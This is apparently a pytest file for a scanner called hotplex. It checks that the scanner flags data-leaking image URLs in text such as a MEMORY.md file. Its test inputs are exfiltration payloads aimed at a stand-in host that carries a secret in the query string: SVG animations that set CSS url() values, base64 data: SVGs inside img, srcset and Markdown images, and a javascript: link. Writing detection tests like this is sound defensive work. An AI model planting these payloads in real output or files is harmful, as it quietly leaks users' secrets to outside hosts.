"""What adversary13 found unread: an SVG animation setting an attribute read as CSS (D1), and a
``data:`` SVG in a Markdown image or a ``srcset``, which show it as ``<img src>`` does (D8)."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest
from hotplex import Project
from hotplex.scanning import fetched

EXAMPLE = Path(__file__).resolve().parents[2] / "examples" / "basic"
EVIL = "https://evil.example/x.png?d=secret"


def _rules(text: str) -> list[str]:
    answer = Project.load(EXAMPLE).check({"MEMORY.md": text})
    return [finding["rule"] for finding in answer.to_json()["findings"]]


@pytest.mark.parametrize(
    "animation",
    [
        f'<set attributeName="fill" to="url({EVIL}#p)"/>',
        f'<set attributeName="mask" to="url({EVIL}#m)"/>',
        f'<animate attributeName="filter" from="url({EVIL}#f)" to="none" dur="1s"/>',
        f'<animate attributeName="clip-path" values="none;url({EVIL}#c)" dur="1s"/>',
        f'<set attributeName=" Cursor " to="url({EVIL}),auto"/>',
        f'<set attributeName="style" to="fill:url({EVIL}#p)"/>',
        f'<set attributeName="marker-end" to="url({EVIL}#m)"/>',
        f'<animate attributeName="stroke" by="url({EVIL})"/>',
    ],
)
def test_an_animated_css_attribute_is_read_as_the_attribute_is(animation) -> None:
    text = f"<svg><rect>{animation}</rect></svg>\n"
    assert "image-url-data" in _rules(text)
    svg = base64.b64encode(text.encode()).decode()
    assert "image-url-data" in _rules(f'<img src="data:image/svg+xml;base64,{svg}">\n')


def test_an_animation_of_what_fetches_nothing_is_not_read() -> None:
    text = f'<svg><rect><set attributeName="opacity" to="url({EVIL})"/></rect></svg>'
    assert not [f for f in fetched.read(text).fetches if f.host == "evil.example"]


def _svg() -> str:
    document = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{EVIL}"/></svg>'
    return f"data:image/svg+xml;base64,{base64.b64encode(document.encode()).decode()}"


@pytest.mark.parametrize(
    "shown",
    [
        '<img src="{}">',
        "![x]({})",
        '<img srcset="{} 1x">',
        '<img srcset="a.png 1x, {},">',
        '<picture><source srcset="{} 2x, b.png"></picture>',
    ],
)
def test_a_data_svg_is_read_wherever_an_image_shows_it(shown) -> None:
    assert "image-url-data" in _rules(shown.format(_svg()) + "\n")


def test_a_srcset_is_split_as_html_splits_it() -> None:
    assert list(fetched._srcset(" a.png 1x,b.png (x, y) 2x ,, data:x,y 3x, c.png,")) == [
        "a.png",
        "b.png",
        "data:x,y",
        "c.png",
    ]


def test_a_markdown_link_to_script_is_still_no_link() -> None:
    from hotplex.text import commonmark

    shown = commonmark.parser().render("[a](javascript:alert(1)) [b](data:text/html,x)\n")
    assert "href" not in shown
